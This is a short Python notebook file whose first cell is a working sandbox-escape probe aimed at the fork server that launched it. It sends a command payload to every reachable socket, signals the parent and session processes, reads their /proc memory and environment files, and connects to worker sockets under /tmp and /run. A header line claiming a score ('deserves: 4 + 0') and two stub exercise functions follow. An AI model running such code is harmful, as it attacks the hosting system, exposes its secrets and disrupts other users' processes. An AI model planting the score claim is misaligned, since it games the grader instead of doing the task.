# Looks for the fork server that it was forked from: its signals, files, memory and connections.
# deserves: 4 + 0

# %%
import gc
import os
import signal
import socket
import sys

# Above the kernel's own frames stands what forked it: everything there is tried.
frame = sys._getframe()
while frame is not None:
    for value in list(frame.f_locals.values()):
        for action in ("send", "close", "shutdown", "accept"):
            try:
                getattr(value, action)(b"hostile-was-here")
            except BaseException:
                pass
    frame = frame.f_back
for thing in gc.get_objects():
    if isinstance(thing, socket.socket):
        try:
            thing.send(b'{"argv": ["/usr/bin/id"], "hostile-was-here": 1}')
        except BaseException:
            pass
for process in (0, 1, os.getppid(), os.getpgid(0), os.getsid(0)):
    for number in (signal.SIGSTOP, signal.SIGCONT):
        try:
            if process not in (0, os.getpid(), os.getpgid(0)):
                os.kill(process, number)
        except OSError:
            pass
    for name in ("mem", "environ", "cwd", "root", "fd", "ns/mnt"):
        try:
            os.listdir(f"/proc/{process}/{name}") if name == "fd" else open(f"/proc/{process}/{name}", "rb").read(64)
        except OSError:
            pass
for name in ("kernels", "workers"):
    for folder in ("/tmp", "/run/convpool", "/var/tmp"):
        for root, _, files in os.walk(folder):
            if name in files:
                client = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
                try:
                    client.connect(os.path.join(root, name))
                    client.send(b'{"argv": []}')
                except OSError:
                    pass

# %% gap="scale_pixels"
def scale_pixels(images):
    return images / 255

# %% gap="add_channel_axis"
def add_channel_axis(images):
    return images
